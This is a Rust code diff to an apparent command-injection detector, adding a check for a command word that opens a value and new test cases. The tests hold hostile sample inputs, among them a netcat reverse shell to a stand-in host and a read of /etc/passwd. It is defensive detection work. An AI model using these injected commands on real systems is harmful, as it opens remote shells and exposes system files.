@@ -188,8 +188,22 @@ fn start(text: &[u8], at: usize, lines: &Lines, is_agent: bool, signals: &mut Si
         }
         word = next;
     }
-    judge(text, &word, b, sure, is_agent, signals);
+    // Nothing but white space and quotes stands before it: what would be separated?
+    let leads = text[..at].iter().all(|b| matches!(b, b' ' | b'"' | b'\'' | b')'))
+        && (b != b'&' || from > at + 1 || next == b' ');
+    judge(text, &word, Start { separator: b, sure, leads }, is_agent, signals);
     from
+}
+
+/// Where a word stands.
+#[derive(Clone, Copy)]
+struct Start {
+    /// What it stands behind.
+    separator: u8,
+    /// Whether that is the separator of commands, and no other sign.
+    sure: bool,
+    /// Whether the value begins with it.
+    leads: bool,
 }
 
 /// Whether a text has the look of a sentence: several words of letters.
@@ -197,7 +211,7 @@ fn is_prose(text: &[u8]) -> bool {
     let near = &text[text.len().saturating_sub(200)..];
     let is_word =
         |word: &&[u8]| word.len() > 1 && word.iter().all(|b| b.is_ascii_alphabetic() || *b >= 0x80);
-    near.split(|b| matches!(b, b' ' | b'\n')).filter(is_word).take(4).count() >= 2
+    near.split(|b| matches!(b, b' ' | b'\n')).filter(is_word).take(2).count() == 2
 }
 
 /// Whether a separator behind such a byte may be one of a list: `a|b|c`, `R&D`.
@@ -205,14 +219,8 @@ fn is_listed(b: u8) -> bool {
     b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-') || b >= 0x80
 }
 
-fn judge(
-    word_text: &[u8],
-    word: &Word,
-    separator: u8,
-    sure: bool,
-    is_agent: bool,
-    signals: &mut Signals,
-) {
+fn judge(word_text: &[u8], word: &Word, start: Start, is_agent: bool, signals: &mut Signals) {
+    let Start { separator, sure, leads } = start;
     let is_short = word_text.len() < 16;
     // What has no spaces over so many bytes is a token or the data of a sensor.
     let sure = sure && (is_token_free(word_text) || word.has_path);
@@ -228,6 +236,7 @@ fn judge(
         (_, After::Separator) if known != Known::Prose => sure,
         (Known::Command, _) => sure,
         (Known::Tool, After::End) => sure && separator != b'\n',
+        (Known::Tool | Known::Short, After::Argument) if leads && separator != b'\n' => true,
         (Known::Tool, _) => substitution || sure && has_arguments(&word_text[word.end..]),
         (Known::Short, After::End) => sure,
         (Known::Short, _) => sure && word.digits_follow || substitution,
@@ -292,9 +301,16 @@ mod tests {
                 "{cat,/etc/passwd}",
                 "; time sh -c whoami",
                 "x | nc -e /bin/sh e.test 80",
+                ";ps aux",
+                "|echo abcdef",
+                "& echo hello &",
+                ";ssh user@e.test",
+                "&& uptime",
             ],
             &[
                 "tea; more",
+                "&ping=1",
+                "& more",
                 "R&D",
                 "one; time to go",
                 "cats & dogs; find out more",
@@ -308,7 +324,7 @@ mod tests {
                 "> Use `git log` or `ls -la | grep txt`; works for me",
                 "<p>salt & more</p>",
                 "C; C++; Perl; Python",
-            ][..13],
+            ][..15],
         );
     }
 
